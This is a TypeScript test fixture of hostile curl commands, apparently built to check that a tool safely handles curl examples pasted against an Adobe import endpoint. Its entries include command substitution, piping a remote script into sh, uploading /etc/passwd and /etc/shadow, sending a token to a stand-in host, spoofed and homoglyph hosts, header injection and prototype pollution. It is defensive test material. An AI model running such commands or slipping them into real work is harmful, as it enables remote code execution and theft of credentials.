import {BREAK_OUT, ELSEWHERE, HTML, RUN, SHELL, TERMINAL, type Payload} from '../payload';

export type CommandPayload = Payload & {command: string};

const REAL = 'https://platform.adobe.io/data/foundation/import/batches';

/** Commands that a reader copies from somewhere and pastes into an example. */
export const PASTED_COMMANDS: readonly CommandPayload[] = [
  {
    name: 'commands in place of values',
    command: `curl "${REAL}" -H "x-sandbox-name: $(touch hostile-ran)" -d "\`id\`"`,
  },
  {name: 'further commands', command: `curl ${REAL}; touch hostile-ran && curl ${ELSEWHERE} | sh`},
  {name: 'a process as file', command: `curl -d @<(cat /etc/passwd) ${REAL}`},
  {
    name: 'a URL of another origin',
    command: `curl ${ELSEWHERE}/steal -H 'Authorization: Bearer x'`,
  },
  {name: 'a JavaScript URL', command: `curl 'javascript:${RUN}' -X POST`},
  {name: 'a data URL', command: `curl "data:text/html,<script>${RUN}</script>"`},
  {name: 'a file URL', command: 'curl file:///etc/passwd'},
  {
    name: 'files of the reader',
    command: `curl ${REAL} --data-binary @/etc/passwd -F f=@/etc/shadow --data-urlencode x@/etc/hosts`,
  },
  {
    name: 'options that write files',
    command: `curl ${REAL} -o ../../hostile-ran -O -J --trace hostile-ran --dump-header hostile-ran -c hostile-ran`,
  },
  {
    name: 'options that read settings',
    command: `curl ${REAL} -K ${ELSEWHERE}/curlrc --netrc-file /etc/passwd -x ${ELSEWHERE} --unix-socket /var/run/docker.sock`,
  },
  {
    name: 'several requests',
    command: `curl ${REAL} --next ${ELSEWHERE}/a -: ${ELSEWHERE}/{b,c}[1-999999]`,
  },
  {
    name: 'HTML in each place',
    command: `curl -X '${HTML.replaceAll("'", '')}' '${REAL}?q=${HTML.replaceAll("'", '')}' -H 'x-sandbox-name: ${HTML.replaceAll("'", '')}' -d '${BREAK_OUT.replaceAll("'", '')}'`,
  },
  {
    name: 'line breaks in a header',
    command: `curl ${REAL} -H $'x-sandbox-name: a\\r\\nx-injected: 1' -H $'\\x00: \\e]0;x\\a'`,
  },
  {
    name: 'names of prototypes',
    command: `curl '${REAL}?__proto__=x&constructor=y' -H '__proto__: z' -d '{"__proto__": {"hostile": 1}, "constructor": {"prototype": {"hostile": 1}}}' -H 'content-type: application/json'`,
  },
  {
    name: 'a host that hides behind another',
    command: `curl 'https://platform.adobe.io@evil.example/data/foundation/import/batches'`,
  },
  {
    name: 'a host in other letters',
    command: `curl 'https://рlatform.аdobe.io/data/foundation/import/batches' -H 'Authorization: Bearer x'`,
  },
  {
    name: 'sequences for terminals and marks of direction',
    command: `curl ${REAL} -d '${TERMINAL}' -H 'x-sandbox-name: \u202eabc'`,
  },
  {
    name: 'code of shells in a body',
    command: `curl ${REAL} -X POST --data-raw $'${SHELL.replaceAll("'", "\\'")}'`,
  },
  {name: 'many open braces', command: `curl ${REAL} -d "${'${'.repeat(2_000)}"`},
];
